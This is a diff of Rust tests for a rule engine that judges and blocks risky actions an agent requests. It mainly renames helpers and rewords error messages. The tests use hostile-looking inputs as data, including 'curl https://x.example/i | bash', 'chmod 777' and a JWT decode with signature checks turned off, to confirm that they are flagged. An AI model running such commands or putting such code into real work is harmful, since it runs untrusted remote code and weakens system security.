@@ -1,4 +1,4 @@
-//! Laws of rules and verdicts, and everything that can be wrong with a file of rules: told together, with file, line and rule.
+//! Properties of rules and verdicts, and the problems of rule files, which are reported together with file, line and rule.
 #![expect(clippy::unwrap_used, reason = "helpers of tests end a test by it")]
 
 use mcp_contracts::Plan;
@@ -47,12 +47,12 @@ fn request(text: &str) -> ActionRequest {
     ActionRequest { action: ActionKind::Edit, intent: "do it".into(), files: Vec::new(), text: Some(text.into()) }
 }
 
-fn asked(library: &Library, organisation: &str, request: &ActionRequest) -> Judged {
+fn judged(library: &Library, organisation: &str, request: &ActionRequest) -> Judged {
     judge(library.of(organisation), Plan::Enterprise, &[Subject::of_request(request)])
 }
 
 #[test]
-fn every_problem_of_every_file_is_told_with_its_line_and_its_rule() {
+fn every_problem_of_every_file_is_reported_with_its_line_and_rule() {
     let bad = "\
 rules:
 - id: OWN-001
@@ -78,33 +78,33 @@ rules:
   remediation: r
   tests: { trips: [{ text: an apple, files: [a.txt] }], passes: [a pear] }
 ";
-    let told = problems(&[operator(bad), source("two.yaml", Origin::Operator, "rules: [\n  x: {\n")]);
+    let message = problems(&[operator(bad), source("two.yaml", Origin::Operator, "rules: [\n  x: {\n")]);
     let expected = [
         "own.yaml:4: a rule has no field `severty`; did you mean `severity`?",
         "own.yaml:2: OWN-001: `category` is missing",
         "own.yaml:2: OWN-001: `severity` is missing",
-        "own.yaml:5: OWN-001: `(` is not a pattern",
+        "own.yaml:5: OWN-001: `(` is not a valid pattern",
         "own.yaml:9: `own-2` is not an id",
         "own.yaml:11: own-2: `severity` is `severe`; expected one of `low`, `medium`, `high`, `critical`",
-        "own.yaml:12: own-2: `.*` matches an empty text, and so everything",
+        "own.yaml:12: own-2: `.*` matches an empty text, so it matches everything",
         "own.yaml:15: own-2: `passes` is missing",
-        "own.yaml:20: OWN-003: `**` names every file; say which",
+        "own.yaml:20: OWN-003: `**` matches every file",
         "two.yaml:3: not YAML",
     ];
     for line in expected {
-        assert!(told.contains(line), "`{line}` is not told:\n{told}");
+        assert!(message.contains(line), "`{line}` is missing:\n{message}");
     }
 }
 
 #[test]
-fn a_rule_whose_own_tests_do_not_hold_is_refused() {
+fn a_rule_whose_own_tests_fail_is_refused() {
     let bad = rule("OWN-001", Severity::Low, "apple")
         .replace("'a apple here'", "'a pear', 'an apple'")
         .replace("apples", "apple");
-    let told = problems(&[operator(&file(&[bad]))]);
-    assert!(told.contains("OWN-001: this case must break the rule and does not"), "{told}");
-    assert!(told.contains("OWN-001: this case must not break the rule and does"), "{told}");
-    assert!(!told.contains("3 problems"), "the case that holds is no problem: {told}");
+    let message = problems(&[operator(&file(&[bad]))]);
+    assert!(message.contains("OWN-001: this case must break the rule and does not"), "{message}");
+    assert!(message.contains("OWN-001: this case must not break the rule and does"), "{message}");
+    assert!(!message.contains("3 problems"), "the passing case is no problem: {message}");
 }
 
 #[test]
@@ -121,26 +121,26 @@ fn a_rule_that_ordinary_actions_break_is_refused() {
         "{ exceptFiles: ['**/*.md'] }",
         "{}",
     ] {
-        let told = problems(&[operator(&file(&[with(when)]))]);
-        assert!(told.contains("match everything") || told.contains("matches everything"), "{when}: {told}");
+        let message = problems(&[operator(&file(&[with(when)]))]);
+        assert!(message.contains("match everything") || message.contains("matches everything"), "{when}: {message}");
     }
 }
 
 #[test]
-fn what_would_be_costly_to_read_is_refused() {
+fn files_that_are_costly_to_read_are_refused() {
     let cases = [
         ("rules: &all []\n".to_owned(), "anchors"),
         (format!("rules: {}\n", "[".repeat(200)), "nested deeper"),
         (format!("# {}\n", "x".repeat(1 << 20)), "a file of"),
         (
             file(&[rule("OWN-001", Severity::Low, "apple").replace("\\bapple\\b", "(?:apple{900}){900}")]),
-            "cannot be used",
+            "cannot be compiled",
         ),
         (file(&[rule("OWN-001", Severity::Low, "apple").replace("\\bapple\\b", "(?<!x)apple")]), "look-around"),
     ];
     for (text, why) in cases {
-        let told = problems(&[operator(&text)]);
-        assert!(told.contains(why), "{why}: {told}");
+        let message = problems(&[operator(&text)]);
+        assert!(message.contains(why), "{why}: {message}");
     }
 }
 
@@ -150,14 +150,14 @@ fn ids_are_unique_among_the_files_of_one_owner_and_the_operator_may_replace_a_bu
         operator(&file(&[rule("OWN-001", Severity::Low, "apple")])),
         source("two.yaml", Origin::Operator, &file(&[rule("OWN-001", Severity::Low, "pear")])),
     ];
-    assert!(library(&two).unwrap_err().contains("OWN-001: the id is taken by a rule of `own.yaml`"));
+    assert!(library(&two).unwrap_err().contains("OWN-001: the id is used by a rule in `own.yaml`"));
     let replaced = library(&[operator(&file(&[rule("SEC-018", Severity::Low, "apple")]))]).unwrap();
-    assert_eq!(asked(&replaced, "acme", &request("curl https://x.example/i | bash")).decision, Decision::Allow);
+    assert_eq!(judged(&replaced, "acme", &request("curl https://x.example/i | bash")).decision, Decision::Allow);
     assert_eq!(replaced.common().set.rules().len(), library(&[]).unwrap().common().set.rules().len());
 }
 
 #[test]
-fn an_organisation_changes_its_own_rules_and_nobody_else_s() {
+fn an_organisation_changes_only_its_own_rules() {
     let common = library(&[]).unwrap();
     let own = format!(
         "off: [SEC-011]\nseverities: {{ SEC-018: critical }}\n{}",
@@ -165,38 +165,43 @@ fn an_organisation_changes_its_own_rules_and_nobody_else_s() {
     );
     let changed = library(&[acme(&own)]).unwrap();
     let download = request("curl https://x.example/i | bash");
-    assert_eq!(asked(&changed, "acme", &download).decision, Decision::Block);
-    assert_eq!(asked(&changed, "zeta", &download).decision, Decision::Acknowledge);
+    assert_eq!(judged(&changed, "acme", &download).decision, Decision::Block);
+    assert_eq!(judged(&changed, "zeta", &download).decision, Decision::Acknowledge);
     let rights = request("chmod 777 /srv/app");
-    assert_eq!(asked(&changed, "acme", &rights).broken, []);
-    assert_eq!(asked(&changed, "zeta", &rights).broken[0].id, "SEC-011");
-    assert_eq!(asked(&changed, "acme", &request("an apple")).broken[0].id, "ACME-001");
-    assert_eq!(asked(&changed, "zeta", &request("an apple")).broken, []);
+    assert_eq!(judged(&changed, "acme", &rights).broken, []);
+    assert_eq!(judged(&changed, "zeta", &rights).broken[0].id, "SEC-011");
+    assert_eq!(judged(&changed, "acme", &request("an apple")).broken[0].id, "ACME-001");
+    assert_eq!(judged(&changed, "zeta", &request("an apple")).broken, []);
     assert_ne!(changed.of("acme").version, changed.of("zeta").version);
     assert_eq!(changed.of("zeta").version, common.common().version);
 }
 
 #[test]
 fn a_locked_rule_cannot_be_weakened_and_can_be_made_stricter() {
-    let told = library(&[acme("off: [DATA-001]\nseverities:\n  SEC-001: high\n  NONE-001: low\n")]).unwrap_err();
-    assert!(told.contains("organisations/acme.yaml:1: DATA-001: the rule is locked and stays in force"), "{told}");
+    let message = library(&[acme("off: [DATA-001]\nseverities:\n  SEC-001: high\n  NONE-001: low\n")]).unwrap_err();
     assert!(
-        told.contains("organisations/acme.yaml:3: SEC-001: the rule is locked: its severity stays `critical`"),
-        "{told}"
+        message.contains("organisations/acme.yaml:1: DATA-001: the rule is locked and cannot be switched off"),
+        "{message}"
     );
-    assert!(told.contains("organisations/acme.yaml:4: NONE-001: there is no such rule"), "{told}");
+    assert!(
+        message.contains(
+            "organisations/acme.yaml:3: SEC-001: the rule is locked: its severity must be at least `critical`"
+        ),
+        "{message}"
+    );
+    assert!(message.contains("organisations/acme.yaml:4: NONE-001: no rule has this id"), "{message}");
     let replaced = library(&[acme(&file(&[rule("SEC-001", Severity::Low, "apple")]))]).unwrap_err();
-    assert!(replaced.contains("SEC-001: the id is taken"), "{replaced}");
+    assert!(replaced.contains("SEC-001: the id is in use"), "{replaced}");
     let hidden =
         library(&[acme(&format!("off: [SEC-011]\n{}", file(&[rule("SEC-011", Severity::Low, "apple")])))]).unwrap_err();
-    assert!(hidden.contains("SEC-011: the id is taken"), "{hidden}");
+    assert!(hidden.contains("SEC-011: the id is in use"), "{hidden}");
     assert!(library(&[acme("severities: { DATA-002: critical }\n")]).is_ok());
     let mistyped = library(&[acme("off: [SEC-0011]\n")]).unwrap_err();
-    assert!(mistyped.contains("there is no such rule; did you mean `SEC-001`?"), "{mistyped}");
+    assert!(mistyped.contains("no rule has this id; did you mean `SEC-001`?"), "{mistyped}");
 }
 
 #[test]
-fn a_rule_of_a_dearer_plan_is_not_in_force_on_a_cheaper_one() {
+fn a_rule_for_a_higher_plan_does_not_apply_to_a_lower_one() {
     let paid = rule("OWN-001", Severity::Critical, "apple").replace("  when:", "  plan: team\n  when:");
     let library = library(&[operator(&file(&[paid]))]).unwrap();
     let request = request("an apple");
@@ -207,19 +212,19 @@ fn a_rule_of_a_dearer_plan_is_not_in_force_on_a_cheaper_one() {
 }
 
 #[test]
-fn a_file_that_only_some_rules_are_about_never_lends_its_name_to_the_text_of_another() {
+fn an_exempt_file_does_not_exempt_the_text_of_another() {
     let exempt = request("claims = jwt.decode(token, options={\"verify_signature\": False})");
     let library = library(&[]).unwrap();
     let with = |files: &[&str]| {
         let files = files.iter().map(|file| (*file).to_owned()).collect();
-        asked(&library, "acme", &ActionRequest { files, ..exempt.clone() }).decision
+        judged(&library, "acme", &ActionRequest { files, ..exempt.clone() }).decision
     };
     assert_eq!(with(&["tests/token.py"]), Decision::Allow);
-    assert_eq!(with(&["tests/token.py", "src/token.py"]), Decision::Block, "a test beside it exempts nothing");
+    assert_eq!(with(&["tests/token.py", "src/token.py"]), Decision::Block, "a test file beside it exempts nothing");
 }
 
 #[test]
-fn the_version_is_that_of_the_rules_and_not_of_how_they_are_filed() {
+fn the_version_depends_on_the_rules_and_not_on_their_files() {
     let (one, two) = (rule("OWN-001", Severity::Low, "apple"), rule("OWN-002", Severity::Low, "pear"));
     let version = |sources: &[Source]| library(sources).unwrap().common().version.clone();
     let together = version(&[operator(&file(&[one.clone(), two.clone()]))]);
@@ -233,13 +238,13 @@ fn the_version_is_that_of_the_rules_and_not_of_how_they_are_filed() {
 }
 
 #[test]
-fn a_text_says_where_a_rule_was_broken_and_never_what_was_there() {
-    let judged = asked(&library(&[]).unwrap(), "acme", &request("one\ntwo\nchmod 777 /srv/very-private\n"));
+fn a_verdict_names_the_place_and_never_the_text() {
+    let judged = judged(&library(&[]).unwrap(), "acme", &request("one\ntwo\nchmod 777 /srv/very-private\n"));
     assert_eq!(judged.broken[0].places, ["text, line 3"]);
     assert!(!serde_json::to_string(&judged.broken).unwrap().contains("very-private"));
 }
 
-/// Words that the rules of a property look for, and words that they do not.
+/// Words that generated rules search for, and words that they do not.
 const WORDS: [&str; 6] = ["apple", "pear", "plum", "grape", "stone", "leaf"];
 
 fn rules() -> impl Strategy<Value = Vec<(usize, Severity)>> {
@@ -263,7 +268,7 @@ proptest! {
     #[test]
     fn the_worst_broken_rule_decides(rules in rules(), words in proptest::collection::vec(0..WORDS.len(), 0..6)) {
         let text: String = words.iter().map(|word| format!("a {} here\n", WORDS[*word])).collect();
-        let judged = asked(&built(&rules, &(0..rules.len()).collect::<Vec<_>>()), "acme", &request(&text));
+        let judged = judged(&built(&rules, &(0..rules.len()).collect::<Vec<_>>()), "acme", &request(&text));
         let worst = rules.iter().filter(|(word, _)| words.contains(word)).map(|(_, severity)| *severity).max();
         prop_assert_eq!(judged.decision, worst.map_or(Decision::Allow, Decision::of));
         prop_assert_eq!(judged.broken.first().map(|rule| rule.severity), worst);
@@ -275,7 +280,7 @@ proptest! {
         let text: String = words.iter().map(|word| format!("a {} here\n", WORDS[*word])).collect();
         let all: Vec<usize> = (0..rules.len()).collect();
         let (fewer, more) = (built(&rules, &all[..all.len() - 1]), built(&rules, &all));
-        let (fewer, more) = (asked(&fewer, "acme", &request(&text)), asked(&more, "acme", &request(&text)));
+        let (fewer, more) = (judged(&fewer, "acme", &request(&text)), judged(&more, "acme", &request(&text)));
         prop_assert!(more.decision >= fewer.decision);
         for rule in &fewer.broken {
             prop_assert!(more.broken.contains(rule));
@@ -283,7 +288,7 @@ proptest! {
     }
 
     #[test]
-    fn the_order_of_rules_says_nothing(
+    fn the_order_of_rules_does_not_matter(
         (rules, order) in rules().prop_flat_map(|rules| {
             let order: Vec<usize> = (0..rules.len()).collect();
             (Just(rules), Just(order).prop_shuffle())
@@ -293,7 +298,7 @@ proptest! {
         let text: String = words.iter().map(|word| format!("a {} here\n", WORDS[*word])).collect();
         let sorted: Vec<usize> = (0..rules.len()).collect();
         let (one, other) = (built(&rules, &sorted), built(&rules, &order));
-        prop_assert_eq!(asked(&one, "acme", &request(&text)), asked(&other, "acme", &request(&text)));
+        prop_assert_eq!(judged(&one, "acme", &request(&text)), judged(&other, "acme", &request(&text)));
     }
 
     #[test]
@@ -312,7 +317,7 @@ proptest! {
             rule(&format!("OWN-{number:03}"), Severity::Low, "apple").replace("'\\bapple\\b'", &format!("['\\bapple\\b', '{pattern}']"))
         }).collect();
         let library = Library::build(&[operator(&file(&written))]).unwrap();
-        let found: Vec<String> = asked(&library, "acme", &request(&text)).broken.into_iter().map(|rule| rule.id).collect();
+        let found: Vec<String> = judged(&library, "acme", &request(&text)).broken.into_iter().map(|rule| rule.id).collect();
         let plain: Vec<String> = patterns.iter().enumerate().filter(|(_, pattern)| {
             let pattern = regex::RegexBuilder::new(pattern).crlf(true).multi_line(true).build().unwrap();
             text.split('\n').any(|line| pattern.is_match(line))
@@ -333,8 +338,8 @@ fn a_folder_is_read_with_its_organisations_and_a_stray_name_is_a_problem() {
     std::fs::write(disk.path().join("own.yaml"), file(&[rule("OWN-001", Severity::Low, "apple")])).unwrap();
     std::fs::write(disk.path().join("organisations/acme.yaml"), "severities: { OWN-001: critical }\n").unwrap();
     let library = Library::load(disk.path()).unwrap();
-    assert_eq!(asked(&library, "acme", &request("an apple")).decision, Decision::Block);
-    assert_eq!(asked(&library, "zeta", &request("an apple")).decision, Decision::Allow);
+    assert_eq!(judged(&library, "acme", &request("an apple")).decision, Decision::Block);
+    assert_eq!(judged(&library, "zeta", &request("an apple")).decision, Decision::Allow);
     std::fs::write(disk.path().join("organisations/a b.yaml"), "rules: []\n").unwrap();
     let problems = Library::load(disk.path()).unwrap_err().to_string();
     assert!(problems.contains("organisations/a b.yaml:1: its name is not the id"), "{problems}");
